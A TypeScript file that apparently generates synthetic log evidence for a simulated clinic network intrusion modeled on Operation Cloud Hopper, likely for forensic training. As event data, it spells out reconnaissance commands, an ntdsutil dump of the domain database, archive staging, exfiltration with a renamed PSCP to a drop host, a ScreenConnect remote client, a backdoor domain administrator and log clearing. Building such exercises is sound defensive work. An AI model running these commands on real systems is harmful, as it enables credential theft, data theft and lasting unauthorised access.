import type { CaseFile } from './case-file.ts';
import {
  agent,
  anna,
  annaInCloud,
  backdoor,
  backupApp,
  computers,
  domainSid,
  dropZone,
  intruder,
  portal,
  system,
} from './cast.ts';
import { cloudChange, cloudSignIn } from './cloud-log.ts';
import { connectionOut, vpnRefused, vpnSession } from './firewall-log.ts';
import { storeRefused } from './store-log.ts';
import {
  accountCreated,
  failedLogon,
  fileWritten,
  logCleared,
  logoff,
  logon,
  memberAdded,
  nextLogonId,
  processStarted,
  serviceInstalled,
  shareOpened,
  taskCreated,
} from './windows-events.ts';

const SECOND = 1_000_000;
const MINUTE = 60 * SECOND;
const HOUR = 60 * MINUTE;
const SYSTEM32 = 'C:\\Windows\\System32\\';
const HIDDEN = '10.20.99.31';

/**
 * One night in the style of Operation Cloud Hopper: Anna's account comes in by the VPN from an address that is not the
 * provider's, looks around, maps shares of one computer after the other, takes the directory's database and patients'
 * pictures into the recycle bin, sends them out with a renamed PSCP, and leaves ways back in: an administrator, a second
 * remote management client, a secret of an application in the cloud. `night` is 01:00 UTC.
 */
export function intrusion(file: CaseFile, night: number): void {
  arrival(file, night);
  lookingAround(file, night + 6 * MINUTE);
  movingOn(file, night + 14 * MINUTE);
  taking(file, night + 25 * MINUTE);
  inTheCloud(file, night + 44 * MINUTE);
  staying(file, night + 55 * MINUTE);
}

function arrival(file: CaseFile, time: number): void {
  for (let i = 0; i < 6; i += 1) file.firewall(vpnRefused(time - 12 * MINUTE + i * 40 * SECOND, anna, intruder));
  file.firewall(...vpnSession(time, 118, anna, intruder, HIDDEN));
  for (let i = 0; i < 4; i += 1) file.add(failedLogon(computers.dc, time + MINUTE + i * 2 * SECOND, agent, HIDDEN));
  file.add(
    logon(computers.files, time + 3 * MINUTE, { who: anna, from: HIDDEN, workstation: 'DESKTOP-8KQ2', type: 10 }),
  );
}

function run(file: CaseFile, time: number, program: string, command: string): void {
  file.add(
    processStarted(computers.files, time, {
      who: anna,
      image: `${SYSTEM32}${program}`,
      command,
      parent: `${SYSTEM32}cmd.exe`,
    }),
  );
}

function lookingAround(file: CaseFile, time: number): void {
  const commands: readonly (readonly [program: string, command: string])[] = [
    ['whoami.exe', 'whoami /all'],
    ['ipconfig.exe', 'ipconfig /all'],
    ['net.exe', 'net view /domain'],
    ['net.exe', 'net group "Domain Admins" /domain'],
    ['nltest.exe', 'nltest /domain_trusts'],
    ['tasklist.exe', 'tasklist /v'],
    ['netstat.exe', 'netstat -ano'],
    ['quser.exe', 'quser'],
  ];
  for (const [index, [program, command]] of commands.entries()) run(file, time + index * 25 * SECOND, program, command);
  file.add(
    processStarted(computers.files, time + 4 * MINUTE, {
      who: anna,
      image: 'C:\\ProgramData\\temp\\csvde.exe',
      command: 'csvde.exe -f C:\\Windows\\Web\\dc01.log',
      original: 'csvde.exe',
      parent: `${SYSTEM32}cmd.exe`,
    }),
  );
}

/** `net use` to five computers within half a minute, each held for a few seconds. */
function movingOn(file: CaseFile, time: number): void {
  const targets = [computers.dc, computers.pictures, computers.reception, computers.surgery, computers.billing];
  for (const [index, at] of targets.entries()) {
    const then = time + index * 6 * SECOND;
    const id = nextLogonId();
    run(file, then - SECOND, 'net.exe', `net use \\\\${at.ip}\\C$ /user:CLINIC\\ng-anna *`);
    file.add(
      logon(at, then, { who: anna, from: computers.files.ip, workstation: 'FS01', type: 3, logonId: id }),
      shareOpened(at, then + SECOND, anna, computers.files.ip, 'C$'),
      logoff(at, then + 5 * SECOND, anna, id, 3),
    );
  }
  file.add(
    fileWritten(computers.pictures, time + 2 * MINUTE, anna, 'System', 'C:\\PerfLogs\\t.vbs'),
    processStarted(computers.files, time + 3 * MINUTE, {
      who: anna,
      image: `${SYSTEM32}cscript.exe`,
      command: `cscript.exe //nologo C:\\PerfLogs\\t.vbs /shell ${computers.pictures.ip}`,
      parent: `${SYSTEM32}cmd.exe`,
    }),
    taskCreated(computers.pictures, time + 4 * MINUTE, '\\upd', 'C:\\PerfLogs\\r.exe', anna),
  );
  for (let i = 0; i < 3; i += 1)
    file.store(storeRefused(time + 5 * MINUTE + i * 4 * SECOND, 'root', computers.pictures.ip));
}

function taking(file: CaseFile, time: number): void {
  file.add(
    processStarted(computers.dc, time, {
      who: anna,
      image: `${SYSTEM32}ntdsutil.exe`,
      command: 'ntdsutil "ac i ntds" "ifm" "create full C:\\PerfLogs\\n" q q',
      parent: `${SYSTEM32}cmd.exe`,
    }),
    processStarted(computers.pictures, time + 5 * MINUTE, {
      who: anna,
      image: 'C:\\PerfLogs\\r.exe',
      command: 'r.exe a -hpQ7xk -v200m -r C:\\$Recycle.Bin\\gggg.rar D:\\Archive\\2026',
      original: 'rar.exe',
      company: 'Archiver',
      parent: `${SYSTEM32}svchost.exe`,
      folder: 'C:\\PerfLogs\\',
    }),
  );
  for (let part = 1; part <= 4; part += 1) {
    file.add(
      fileWritten(
        computers.pictures,
        time + (5 + part) * MINUTE,
        anna,
        'C:\\PerfLogs\\r.exe',
        `C:\\$Recycle.Bin\\gggg.part${part}.rar`,
      ),
    );
  }
  file.add(
    processStarted(computers.pictures, time + 13 * MINUTE, {
      who: anna,
      image: 'C:\\ProgramData\\media\\rundll32.exe',
      command: `rundll32.exe -P 443 -pw Zk29 C:\\$Recycle.Bin\\gggg.part1.rar root@${dropZone}:/srv/in`,
      original: 'pscp',
      company: 'Simon Tatham',
      parent: `${SYSTEM32}cmd.exe`,
    }),
  );
  file.firewall(...connectionOut(time + 13 * MINUTE, 900, computers.pictures.ip, dropZone, 443, 812_440_120));
}

/** Anna's account in the provider's tenant, without its second factor, and a secret that outlives every password reset. */
function inTheCloud(file: CaseFile, time: number): void {
  const from = intruder;
  file.cloud(
    'signins',
    cloudSignIn(time, { who: annaInCloud, from, factor: 'singleFactorAuthentication', app: portal }),
  );
  file.cloud(
    'audit',
    cloudChange(time + 4 * MINUTE, 'Add service principal credentials', {
      who: annaInCloud,
      from,
      target: { id: backupApp.id, displayName: backupApp.name, type: 'ServicePrincipal', modifiedProperties: [] },
    }),
  );
}

/** A new administrator, a second remote management client with another instance, and a swept floor. */
function staying(file: CaseFile, time: number): void {
  const admins = { name: 'Domain Admins', sid: `${domainSid}-512` };
  file.add(
    accountCreated(computers.dc, time, backdoor, anna),
    memberAdded(computers.dc, time + 20 * SECOND, backdoor, admins, anna),
    logon(computers.dc, time + 4 * MINUTE, { who: agent, from: HIDDEN, workstation: 'DESKTOP-8KQ2', type: 10 }),
    serviceInstalled(
      computers.pictures,
      time + 7 * MINUTE,
      'ScreenConnect Client (91ac04e77bd2f580)',
      '"C:\\Program Files (x86)\\ScreenConnect Client (91ac04e77bd2f580)\\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=instance-k3x.screenconnect.com&p=443"',
    ),
    processStarted(computers.pictures, time + 9 * MINUTE, {
      who: system,
      image: `${SYSTEM32}cmd.exe`,
      command: 'cmd.exe /c whoami',
      parent: 'C:\\Program Files (x86)\\ScreenConnect Client (91ac04e77bd2f580)\\ScreenConnect.ClientService.exe',
    }),
    logCleared(computers.files, time + 20 * MINUTE, anna),
    // The next evening the new account comes by itself.
    logon(computers.files, time + 19 * HOUR, {
      who: backdoor,
      from: '10.20.99.33',
      workstation: 'DESKTOP-8KQ2',
      type: 10,
    }),
  );
  file.firewall(...vpnSession(time + 19 * HOUR - 3 * MINUTE, 22, backdoor, intruder, '10.20.99.33'));
}
